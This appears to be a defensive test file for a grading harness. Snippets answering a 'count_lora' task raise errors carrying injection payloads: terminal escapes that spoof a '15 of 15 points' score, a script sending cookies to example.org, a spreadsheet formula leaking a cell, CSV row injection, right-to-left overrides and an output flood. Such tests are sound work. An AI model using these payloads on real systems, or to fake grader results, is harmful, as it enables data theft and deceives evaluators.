"""Output: names, answers and messages that act on whoever reads them: a terminal, a browser, a spreadsheet, a person."""

from tests.attacks.attack import RAW, on_count

ATTACKS = [
    on_count("terminal-in-a-message", RAW, "raises an error whose words move the cursor, change the title and make green what is red", r"""
raise RuntimeError("\x1b[2K\x1b[1A\x1b]0;A+\x07\x1b[32m15 of 15 points\x1b[0m\x9b31m\r")
"""),
    on_count("terminal-in-an-answer", RAW, "prints and returns words that move the cursor", r"""
def count_lora(shapes, rank):
    raise RuntimeError("\x1b[8mhidden\x1b[0m" + str(rank))
"""),
    on_count("script-in-a-message", RAW, "raises an error whose words are a script", """
raise RuntimeError("<script>fetch('https://example.org/?' + document.cookie)</script><img src=x onerror=alert(1)>")
"""),
    on_count("script-in-an-answer", RAW, "raises, when asked, words that end the table and begin a page", """
def count_lora(shapes, rank):
    raise ValueError("</td></table><script>document.title = '15 of 15'</script>")
"""),
    on_count("script-in-a-name", RAW, "raises an error whose class has a name that is a script", """
Named = type("<script>alert(1)</script>", (Exception,), {"__str__": lambda self: type(self).__name__})
raise Named
"""),
    on_count("formula", RAW, "raises an error that a spreadsheet takes for a formula", """
raise RuntimeError('=HYPERLINK("https://example.org?" & A1; "15")')
"""),
    on_count("another-row", RAW, "raises an error with a line break, a quote and a row for itself", """
raise RuntimeError('x"\\nmallory,15,"=1+1\\x1b')
"""),
    on_count("right-to-left", RAW, "raises an error that reverses what stands after it, and hides letters in it", """
raise RuntimeError("\\u202e51 fo 51\\u2066\\u200b\\u2069")
"""),
    on_count("flood-in-a-message", RAW, "raises an error of twenty million letters", """
raise RuntimeError("x" * 20_000_000)
"""),
]
